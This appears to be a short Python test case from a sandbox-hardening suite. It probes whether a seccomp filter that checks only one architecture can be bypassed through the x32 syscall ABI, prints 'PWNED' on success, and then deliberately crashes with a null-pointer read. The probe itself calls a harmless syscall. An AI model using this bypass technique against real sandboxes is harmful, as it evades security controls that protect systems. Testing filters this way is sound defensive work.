"""Enter the kernel by the x32 door, where numbers have one bit more.

attack: E07 walk around the filter
guard: seccomp (one architecture)
ending: crashed
"""

import ctypes

result = ctypes.CDLL(None).syscall(0x40000000 + 39)
print("PWNED" if result > 0 else "held", flush=True)
ctypes.string_at(0)  # a kernel without x32 only answers ENOSYS
